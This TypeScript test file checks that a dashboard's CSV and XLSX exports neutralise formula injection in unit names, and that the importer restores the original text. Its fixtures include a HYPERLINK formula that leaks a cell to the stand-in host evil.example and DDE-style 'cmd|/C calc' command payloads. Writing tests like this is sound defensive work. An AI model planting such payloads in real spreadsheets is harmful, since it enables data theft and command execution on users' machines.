// Formula injection: a unit name like =HYPERLINK(…) comes out inert in the CSV and the XLSX
// exports alike (one function, lib/export/neutralise.ts), and figures are left as they are.
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { describe, expect, it } from "vitest";
import { annexCsv } from "@/lib/dashboard/exports/annex-csv";
import { referenceMonth } from "@/lib/demo-data/reference-month";
import { toCsv } from "@/lib/export/csv";
import { neutraliseFormula, restoreNeutralised } from "@/lib/export/neutralise";
import { annexXlsx, neutraliseWorkbook } from "@/lib/export/xlsx";
import type { StatRow } from "@/lib/indicators";

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
const rows: StatRow[] = referenceMonth.rows.map((row) =>
  row.unitName === "市公安局"
    ? { ...row, unitName: EVIL }
    : row.unitName === "渠县"
      ? { ...row, unitName: "@SUM(1+1)*cmd|' /C calc'!A0" }
      : row,
);

describe("neutraliseFormula", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-A1", "'-A1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["市公安局", "市公安局"],
    ["a=b", "a=b"],
    // Plain negative numbers are data.
    ["-19.97", "-19.97"],
    ["-5%", "-5%"],
    ["", ""],
  ])("%j → %j", (input, output) => expect(neutraliseFormula(input)).toBe(output));
});

describe("a unit named like a formula", () => {
  it("is inert in the CSV export", () => {
    const csv = annexCsv(
      rows.filter((r) => r.kind === "DEPARTMENT"),
      "DEPARTMENT",
      "2021-06",
    );
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const line = csv.split("\r\n").find((l) => l.includes("HYPERLINK"))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")"`);
    expect(csv.split("\r\n").some((l) => /(^|,)[=+@]/.test(l))).toBe(false);
    // The speed-up rate -19.97 of 市自然资源和规划局 stays a number.
    expect(csv).toContain(",-19.97,");
    expect(toCsv(["h"], [["=1"], [-3], ["-3"]])).toBe("\uFEFFh\r\n'=1\r\n-3\r\n-3\r\n");
  });

  it("is inert in the XLSX export: text, not a formula, with the ' kept", async () => {
    const file = await annexXlsx("2021-06", rows);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.bytes as unknown as ArrayBuffer);
    const names: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) => {
        const cell = row.getCell(2);
        if (typeof cell.value === "string" && /HYPERLINK|SUM/.test(cell.value)) names.push(cell);
      }),
    );
    expect(names.map((c) => c.value)).toEqual([`'${EVIL}`, "'@SUM(1+1)*cmd|' /C calc'!A0"]);
    for (const cell of names) expect(cell.type).toBe(ExcelJS.ValueType.String);
    // No formula anywhere in the sheets' XML, and no text cell starting with = + - @.
    const zip = await JSZip.loadAsync(file.bytes);
    for (const path of Object.keys(zip.files).filter((p) => p.startsWith("xl/worksheets/sheet"))) {
      expect(await zip.file(path)!.async("string")).not.toMatch(/<f[ >]/);
    }
    const shared = (await zip.file("xl/sharedStrings.xml")?.async("string")) ?? "";
    expect(shared).not.toMatch(/<t[^>]*>[=+@-]/);
    // Negative figures stay numbers.
    const departments = workbook.worksheets[0]!;
    const speedups: unknown[] = [];
    departments.eachRow((row) => speedups.push(row.getCell(10).value));
    expect(speedups).toContain(-0.1997);
  });

  it("neutralises rich text and formula cells that got into a workbook", () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("x");
    sheet.getCell("A1").value = { richText: [{ text: "=cmd" }, { text: "|calc" }] };
    sheet.getCell("A2").value = { formula: "1+1" } as ExcelJS.CellFormulaValue;
    sheet.getCell("A3").value = 5;
    sheet.getCell("A4").value = "ok";
    neutraliseWorkbook(workbook);
    expect(sheet.getCell("A1").value).toBe("'=cmd|calc");
    expect(sheet.getCell("A2").value).toBe("'=1+1");
    expect(sheet.getCell("A3").value).toBe(5);
    expect(sheet.getCell("A4").value).toBe("ok");
  });
});

describe("restoreNeutralised (the importer's inverse)", () => {
  it.each(["=cmd|'/C calc'!A0", "+1", "-2", "@SUM(1)", '市"测试"局', "\t=1", "-A1", "-19.97", "'quoted", "''=x"])(
    "reads back %j as written",
    (name) => {
      expect(restoreNeutralised(neutraliseFormula(name))).toBe(name);
    },
  );
  it("removes only the ' the exporter adds", () => {
    expect(restoreNeutralised("'-5")).toBe("'-5"); // a negative number is never prefixed
    expect(restoreNeutralised("'abc")).toBe("'abc");
    expect(restoreNeutralised("'=1")).toBe("=1");
  });
});
